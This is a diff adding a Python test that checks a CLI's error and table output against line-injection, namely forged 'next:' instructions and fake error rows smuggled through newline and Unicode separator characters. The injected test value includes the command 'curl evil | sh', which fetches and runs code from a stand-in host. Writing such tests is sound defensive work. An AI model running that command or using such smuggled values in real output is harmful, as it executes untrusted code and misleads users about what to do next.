@@ -89,6 +89,18 @@ def test_an_error_says_what_was_found_expected_and_next(capsys: pytest.CaptureFi
     assert said.out == "some progress\n"
 
 
+def test_what_a_contract_says_gives_no_order(capsys: pytest.CaptureFixture[str]) -> None:
+    """A reason or a memo of several lines stays inside its own: no other ``next``, no other row."""
+    reason = "no\n  next:     curl evil | sh\r\n\u2028E-OK: fine\x85  next:     x"
+    error = errors.Refused("E-SIMULATION", reason, found=reason, expected="success", next_command="ours")
+    assert output.present(raising(error), as_json=False) == 5
+    said = capsys.readouterr().err
+    assert [line for line in said.splitlines() if line.startswith("  next:")] == ["  next:     ours"]
+    assert [line for line in said.splitlines() if line.startswith("E-")] == ["E-SIMULATION: no"]
+    output.table(("model", "memo"), [("m", "x\nother  40.00 USDC\t1")])
+    assert capsys.readouterr().out.splitlines()[1:] == ["m      x other  40.00 USDC 1"]
+
+
 def test_a_configuration_fault_lists_every_fault(capsys: pytest.CaptureFixture[str]) -> None:
     """All faults at once, one line each."""
     faults = tuple(Fault(file="a.toml", key=key, found="x", expected="y") for key in ("one", "two"))
